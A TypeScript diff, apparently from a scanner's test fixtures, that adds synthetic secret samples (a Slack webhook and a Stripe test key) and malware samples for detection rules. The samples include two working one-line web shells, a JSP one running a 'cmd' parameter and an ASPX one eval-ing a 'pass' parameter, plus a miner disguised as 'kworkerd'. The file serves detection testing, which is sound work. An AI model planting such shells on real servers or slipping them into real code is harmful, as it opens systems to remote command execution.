@@ -151,3 +151,16 @@ export function plantedMalwareFiles(list: readonly PlantedMalware[]): Record<str
   for (const m of list) if (m.content !== '') files[m.path] = { content: m.content, ...(m.mode ? { mode: m.mode } : {}) }
   return files
 }
+
+/** Secret formats the planted image does not carry, checked here. */
+export const EXTRA_SECRET_EXAMPLES = [
+  { rule: 'slack-webhook', path: 'app/alerts.env', text: `SLACK_WEBHOOK=https://hooks.slack.com/services/T${base62(8).toUpperCase()}/B${base62(8).toUpperCase()}/${base62(24)}\n` },
+  { rule: 'stripe-test-key', path: 'app/stripe.env', text: `STRIPE_KEY=sk_test_${base62(24)}\n` },
+]
+
+/** Malicious shapes the planted image does not carry, checked here. */
+export const EXTRA_MALWARE_EXAMPLES = [
+  { rule: 'web-shell-jsp', path: 'app/webapps/ROOT/cmd.jsp', text: '<%@ page import="java.io.*" %>\n<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>\n' },
+  { rule: 'web-shell-asp', path: 'inetpub/wwwroot/x.aspx', text: '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>\n' },
+  { rule: 'miner-xmrig-binary', path: 'usr/bin/kworkerd', text: '' },
+]
